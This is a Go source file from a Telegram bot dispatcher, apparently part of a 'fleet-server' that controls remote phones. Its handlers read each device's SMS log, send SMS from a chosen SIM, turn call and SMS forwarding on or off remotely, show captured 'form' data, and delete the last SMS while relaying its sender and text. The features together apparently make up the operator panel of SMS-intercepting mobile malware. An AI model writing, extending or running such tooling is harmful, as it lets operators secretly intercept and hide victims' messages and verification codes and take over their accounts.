package dispatcher

import (
	"context"
	"crypto/sha256"
	"encoding/base64"
	"errors"
	"fmt"
	"strings"

	"github.com/rs/zerolog/log"

	"github.com/fleetpanel/fleet-server/internal/conversation"
	"github.com/fleetpanel/fleet-server/internal/models"
	"github.com/fleetpanel/fleet-server/internal/storage"
)

// Action token verbs. Tokens have the form "<verb>:<deviceId>", or
// "<verb>:#<handle>" when the id would not fit in callback data.
const (
	VerbDevice          = "device"
	VerbBackDevices     = "back_devices"
	VerbSendSMSMenu     = "send_sms_menu"
	VerbCallForwardMenu = "call_forward_menu"
	VerbSMSForwardMenu  = "sms_forward_menu"
	VerbGetSMSLog       = "get_sms_log"
	VerbDeviceInfo      = "device_info"
	VerbViewForm        = "view_form"
	VerbDeleteLastSMS   = "delete_last_sms"
)

// MaxCallbackData is the most callback data Telegram accepts per button.
const MaxCallbackData = 64

// handlePrefix marks a hashed device reference. Ids starting with it are
// always hashed, so an inline id never looks like a handle.
const handlePrefix = "#"

// Token builds the callback data for verb on deviceID.
func Token(verb, deviceID string) string {
	if deviceID == "" {
		return verb
	}
	if len(verb)+1+len(deviceID) > MaxCallbackData || strings.HasPrefix(deviceID, handlePrefix) {
		return verb + ":" + handlePrefix + DeviceHandle(deviceID)
	}
	return verb + ":" + deviceID
}

// DeviceHandle is a short stable reference to deviceID: the base64url
// form of the first 18 bytes of its SHA-256.
func DeviceHandle(deviceID string) string {
	sum := sha256.Sum256([]byte(deviceID))
	return base64.RawURLEncoding.EncodeToString(sum[:18])
}

// ParseAction splits callback data into verb and device reference.
// Everything after the first colon is the reference, which may itself
// contain colons.
func ParseAction(data string) (verb, deviceRef string) {
	verb, deviceRef, _ = strings.Cut(data, ":")
	return verb, deviceRef
}

type actionFunc func(d *Dispatcher, ctx context.Context, press ButtonPress, device models.Device) Response

type action struct {
	needsDevice bool
	handle      actionFunc
}

// actions is the fixed verb table. Anything not in it is rejected.
var actions = buildActions()

func buildActions() map[string]action {
	a := map[string]action{
		VerbDevice:          {true, (*Dispatcher).showDeviceMenu},
		VerbBackDevices:     {false, (*Dispatcher).showDevicePicker},
		VerbSendSMSMenu:     {true, (*Dispatcher).showSendSMSMenu},
		VerbCallForwardMenu: {true, forwardMenu(models.CommandCallForward)},
		VerbSMSForwardMenu:  {true, forwardMenu(models.CommandSMSForward)},
		VerbGetSMSLog:       {true, (*Dispatcher).showSMSLog},
		VerbDeviceInfo:      {true, (*Dispatcher).showDeviceInfo},
		VerbViewForm:        {true, (*Dispatcher).showForm},
		VerbDeleteLastSMS:   {true, (*Dispatcher).deleteLastSMS},
	}

	for _, sim := range []models.SIMSlot{models.SIMSlot1, models.SIMSlot2} {
		a[simVerb("send_sms", sim)] = action{true, startFlow(conversation.FlowSendSMS, sim)}

		for _, kind := range []models.CommandType{models.CommandCallForward, models.CommandSMSForward} {
			prefix := string(kind)
			a[simVerb(prefix, sim)] = action{true, forwardActionMenu(kind, sim)}
			a[simVerb(prefix+"_on", sim)] = action{true, startFlow(forwardFlow(kind), sim)}
			a[simVerb(prefix+"_off", sim)] = action{true, queueForward(kind, models.ForwardOff, sim)}
			a[simVerb(prefix+"_check", sim)] = action{true, queueForward(kind, models.ForwardCheck, sim)}
		}
	}
	return a
}

// simVerb appends the slot suffix, e.g. "call_forward_on_sim2".
func simVerb(prefix string, sim models.SIMSlot) string {
	return fmt.Sprintf("%s_sim%d", prefix, int(sim))
}

func forwardFlow(kind models.CommandType) conversation.Flow {
	if kind == models.CommandSMSForward {
		return conversation.FlowSMSForwardOn
	}
	return conversation.FlowCallForwardOn
}

// ========== Menus ==========

func (d *Dispatcher) showDeviceMenu(_ context.Context, press ButtonPress, device models.Device) Response {
	return respond(Reply{
		ChatID:        press.ChatID,
		Text:          "🔧 Commands for " + device.DisplayName(),
		Keyboard:      deviceMenu(device.ID),
		EditMessageID: press.MessageID,
	})
}

func (d *Dispatcher) showDevicePicker(_ context.Context, press ButtonPress, _ models.Device) Response {
	return respond(d.devicePicker(press.ChatID, press.MessageID))
}

func (d *Dispatcher) showSendSMSMenu(_ context.Context, press ButtonPress, device models.Device) Response {
	return respond(Reply{
		ChatID:        press.ChatID,
		Text:          "✉️ Choose SIM:",
		Keyboard:      simMenu("send_sms", device.ID, Token(VerbDevice, device.ID)),
		EditMessageID: press.MessageID,
	})
}

func forwardMenu(kind models.CommandType) actionFunc {
	return func(d *Dispatcher, _ context.Context, press ButtonPress, device models.Device) Response {
		title := "📞 Choose SIM for Call Forward:"
		if kind == models.CommandSMSForward {
			title = "📨 Choose SIM for SMS Forward:"
		}
		return respond(Reply{
			ChatID:        press.ChatID,
			Text:          title,
			Keyboard:      simMenu(string(kind), device.ID, Token(VerbDevice, device.ID)),
			EditMessageID: press.MessageID,
		})
	}
}

func forwardActionMenu(kind models.CommandType, sim models.SIMSlot) actionFunc {
	return func(d *Dispatcher, _ context.Context, press ButtonPress, device models.Device) Response {
		return respond(Reply{
			ChatID:        press.ChatID,
			Text:          fmt.Sprintf("%s %s — choose action:", forwardLabel(kind), sim),
			Keyboard:      forwardActions(kind, sim, device.ID),
			EditMessageID: press.MessageID,
		})
	}
}

// ========== Commands ==========

func startFlow(flow conversation.Flow, sim models.SIMSlot) actionFunc {
	return func(d *Dispatcher, ctx context.Context, press ButtonPress, device models.Device) Response {
		res, err := d.sessions.Apply(ctx, press.ChatID, conversation.StartFlow(flow, device.ID, sim), d.enqueue)
		if err != nil {
			log.Error().Err(err).Int64("chat_id", press.ChatID).Msg("Failed to start flow")
			return respond(plain(press.ChatID, TextInternalError))
		}
		return respond(plain(press.ChatID, res.Reply))
	}
}

// queueForward handles the single-shot off and check actions, which
// need no further input.
func queueForward(kind models.CommandType, act models.ForwardAction, sim models.SIMSlot) actionFunc {
	return func(d *Dispatcher, ctx context.Context, press ButtonPress, device models.Device) Response {
		cmd := models.NewForward(kind, act, sim, "")
		if err := d.enqueue(ctx, device.ID, cmd); err != nil {
			log.Error().Err(err).Str("device_id", device.ID).Msg("Failed to queue command")
			return respond(plain(press.ChatID, TextInternalError))
		}

		prefix := "✅ "
		if act == models.ForwardCheck {
			prefix = "🔎 "
		}
		return respond(plain(press.ChatID, prefix+cmd.Describe()))
	}
}

// ========== Device data ==========

func (d *Dispatcher) showSMSLog(ctx context.Context, press ButtonPress, device models.Device) Response {
	entries, total, err := d.store.ListSMS(ctx, device.ID, d.opts.SMSLogPage)
	if err != nil {
		log.Error().Err(err).Str("device_id", device.ID).Msg("Failed to list SMS")
		return respond(plain(press.ChatID, TextInternalError))
	}
	if len(entries) == 0 {
		return respond(plain(press.ChatID, "No messages found"))
	}
	return respond(markdown(press.ChatID, formatSMSLog(entries, total)))
}

func (d *Dispatcher) showDeviceInfo(ctx context.Context, press ButtonPress, device models.Device) Response {
	msg := formatDevice(device, d.registry.Online(device)) + "\nUUID: " + code(device.ID)
	msg += "\n🕒 Last seen: " + formatTime(device.LastSeen)

	if pending, err := d.queue.Pending(ctx, device.ID); err != nil {
		log.Warn().Err(err).Str("device_id", device.ID).Msg("Failed to count pending commands")
	} else {
		msg += fmt.Sprintf("\n📦 Pending commands: %d", pending)
	}
	return respond(markdown(press.ChatID, msg))
}

func (d *Dispatcher) showForm(ctx context.Context, press ButtonPress, device models.Device) Response {
	fields, err := d.store.GetFormSnapshot(ctx, device.ID)
	if errors.Is(err, storage.ErrNotFound) {
		return respond(plain(press.ChatID, "No form data found"))
	}
	if err != nil {
		log.Error().Err(err).Str("device_id", device.ID).Msg("Failed to load form")
		return respond(plain(press.ChatID, TextInternalError))
	}
	return respond(markdown(press.ChatID, formatFormView(device.ID, fields)))
}

func (d *Dispatcher) deleteLastSMS(ctx context.Context, press ButtonPress, device models.Device) Response {
	removed, err := d.DeleteLastSMS(ctx, device.ID)
	if errors.Is(err, storage.ErrNotFound) {
		return respond(plain(press.ChatID, "No messages to delete"))
	}
	if err != nil {
		log.Error().Err(err).Str("device_id", device.ID).Msg("Failed to delete SMS")
		return respond(plain(press.ChatID, TextInternalError))
	}
	return respond(plain(press.ChatID, fmt.Sprintf("🗑️ Last SMS deleted:\nFrom: %s\nMsg: %s", removed.From, removed.Body)))
}
